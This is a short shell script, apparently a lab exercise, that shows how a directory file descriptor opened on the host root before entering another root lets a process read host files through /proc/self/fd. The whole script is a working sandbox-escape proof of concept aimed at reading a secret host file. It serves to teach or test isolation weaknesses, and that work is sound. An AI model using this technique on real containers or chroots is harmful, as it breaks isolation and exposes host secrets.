#!/bin/sh
# Reads a file of the host from inside another root, by way of a directory that was left open.
#
# Usage: leaked-directory.sh SECRET ENTER ROOT
#   SECRET   a file of the host, by its absolute path; it is there while somebody is inside, and is not in ROOT
#   ENTER    a program: `ENTER ROOT -- COMMAND` runs a command with another root
# What is in SECRET is to be printed from in there. The root has a /proc.
set -eu
secret=$1 enter=$2 root=$3

# EXERCISE lab-leaked-directory
exec 7</
exec "$enter" "$root" -- cat "/proc/self/fd/7$secret"
# END lab-leaked-directory
